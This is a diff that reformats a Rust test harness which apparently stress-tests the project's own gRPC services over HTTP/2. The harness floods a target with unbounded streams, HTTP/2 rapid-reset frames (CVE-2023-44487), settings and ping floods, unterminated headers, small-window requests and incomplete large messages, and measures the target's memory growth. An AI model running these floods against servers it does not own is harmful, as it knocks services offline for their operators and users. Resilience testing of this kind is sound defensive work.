@@ -35,19 +35,26 @@ pub(crate) struct Target {
 }
 
 impl Target {
-    pub(crate) const API: Self =
-        Self { streaming: "/clarion.v1.RegistryService/WriteDevices", unary: "/clarion.v1.AlertService/ListAlerts" };
-    pub(crate) const FEED: Self =
-        Self { streaming: "/clarion.shard.v1.FeedService/Feed", unary: "/clarion.shard.v1.FeedService/Feed" };
+    pub(crate) const API: Self = Self {
+        streaming: "/clarion.v1.RegistryService/WriteDevices",
+        unary: "/clarion.v1.AlertService/ListAlerts",
+    };
+    pub(crate) const FEED: Self = Self {
+        streaming: "/clarion.shard.v1.FeedService/Feed",
+        unary: "/clarion.shard.v1.FeedService/Feed",
+    };
     pub(crate) const HEALTH: Self =
         Self { streaming: "/grpc.health.v1.Health/Watch", unary: "/grpc.health.v1.Health/Check" };
-    pub(crate) const SESSION: Self =
-        Self { streaming: "/clarion.shard.v1.ShardService/Session", unary: "/clarion.shard.v1.ShardService/Session" };
+    pub(crate) const SESSION: Self = Self {
+        streaming: "/clarion.shard.v1.ShardService/Session",
+        unary: "/clarion.shard.v1.ShardService/Session",
+    };
 }
 
 /// Sockets of both ends of all that is held: more than most shells allow.
 pub(crate) fn allow_many_sockets() {
-    clarion_runtime::descriptors::raise().expect("the limit can be raised to what the system allows");
+    clarion_runtime::descriptors::raise()
+        .expect("the limit can be raised to what the system allows");
 }
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
@@ -60,17 +67,22 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
 }
 
 fn hello(settings: &[(u16, u32)]) -> Vec<u8> {
-    let payload: Vec<u8> =
-        settings.iter().flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()).collect();
+    let payload: Vec<u8> = settings
+        .iter()
+        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
+        .collect();
     [PREFACE, &frame(4, 0, 0, &payload)].concat()
 }
 
 /// A request's head in HPACK literals.
 fn head(path: &str) -> Vec<u8> {
     let mut block = vec![0x83, 0x86];
-    for (name, value) in
-        [(":path", path), (":authority", "clarion"), ("content-type", "application/grpc"), ("te", "trailers")]
-    {
+    for (name, value) in [
+        (":path", path),
+        (":authority", "clarion"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ] {
         block.push(0);
         for text in [name, value] {
             block.push(u8::try_from(text.len()).expect("below 127"));
@@ -108,7 +120,8 @@ struct Counts {
 impl fmt::Display for Done {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         let Counts { connections, frames, bytes } = &*self.counts;
-        let [connections, frames, bytes] = [connections, frames, bytes].map(|n| n.load(Ordering::Relaxed));
+        let [connections, frames, bytes] =
+            [connections, frames, bytes].map(|n| n.load(Ordering::Relaxed));
         write!(
             f,
             "{connections} connections, {frames} requests or frames, {:.1} MB; growth in MiB after",
@@ -125,14 +138,27 @@ pub(crate) async fn attack(address: SocketAddr, target: Target, pid: u32) -> Don
     attack.note("held");
     let Target { streaming, unary } = target;
     // Whole requests whose answers have no end, and heads whose requests have none: 100,000 streams.
-    attack.flood("streams", (200, true), &hello(&[]), move |n| (n <= 500).then(|| asked_or_not(n, streaming))).await;
+    attack
+        .flood("streams", (200, true), &hello(&[]), move |n| {
+            (n <= 500).then(|| asked_or_not(n, streaming))
+        })
+        .await;
     // CVE-2023-44487.
-    let reset = move |id| [frame(1, 4, id, &head(unary)), frame(3, 0, id, &8_u32.to_be_bytes())].concat();
-    attack.flood("resets", (8, true), &hello(&[]), move |n| (n <= 20_000).then(|| reset(stream_id(n)))).await;
+    let reset =
+        move |id| [frame(1, 4, id, &head(unary)), frame(3, 0, id, &8_u32.to_be_bytes())].concat();
+    attack
+        .flood("resets", (8, true), &hello(&[]), move |n| {
+            (n <= 20_000).then(|| reset(stream_id(n)))
+        })
+        .await;
     // Frames that each want an answer, from a peer that takes none.
     let settings = || frame(4, 0, 0, &[0, 4, 0, 1, 0, 0]);
     attack.flood("settings", (8, false), &hello(&[]), move |n| (n <= 200_000).then(settings)).await;
-    attack.flood("pings", (8, false), &hello(&[]), |n| (n <= 200_000).then(|| frame(6, 0, 0, &n.to_be_bytes()))).await;
+    attack
+        .flood("pings", (8, false), &hello(&[]), |n| {
+            (n <= 200_000).then(|| frame(6, 0, 0, &n.to_be_bytes()))
+        })
+        .await;
     // A head without an end.
     let beginning = [hello(&[]), frame(1, 0, 1, &head(unary))].concat();
     let more = || frame(9, 0, 1, &[&[0, 1, b'x', 127, 0][..], &[b'y'; 127]].concat());
@@ -143,7 +169,9 @@ pub(crate) async fn attack(address: SocketAddr, target: Target, pid: u32) -> Don
         attack.flood(what, (64, false), &hello(&[(4, window)]), ask).await;
     }
     // Large messages that are begun and never whole.
-    let large = move |n| (n <= 100).then(|| begun(stream_id(n), if n % 2 == 0 { streaming } else { unary }));
+    let large = move |n| {
+        (n <= 100).then(|| begun(stream_id(n), if n % 2 == 0 { streaming } else { unary }))
+    };
     attack.flood("large messages", (100, true), &hello(&[]), large).await;
     drop(held);
     attack.done
@@ -201,7 +229,8 @@ impl Attack {
         let end = Instant::now() + EACH;
         let mut floods = JoinSet::new();
         for _ in 0..connections {
-            let (address, counts, beginning) = (self.address, Arc::clone(&self.done.counts), beginning.to_vec());
+            let (address, counts, beginning) =
+                (self.address, Arc::clone(&self.done.counts), beginning.to_vec());
             floods.spawn(timeout_at(end, async move {
                 let stream = TcpStream::connect(address).await?;
                 counts.connections.fetch_add(1, Ordering::Relaxed);
@@ -297,6 +326,9 @@ pub(crate) async fn order(address: SocketAddr, order: &str) -> String {
     let mut stream = TcpStream::connect(address).await.expect("it listens");
     stream.write_all(format!("{order}\n").as_bytes()).await.expect("it takes an order");
     let mut answer = vec![0; 4_096];
-    let n = timeout(Duration::from_secs(20), stream.read(&mut answer)).await.expect("in time").expect("an answer");
+    let n = timeout(Duration::from_secs(20), stream.read(&mut answer))
+        .await
+        .expect("in time")
+        .expect("an answer");
     String::from_utf8_lossy(&answer[..n]).into_owned()
 }
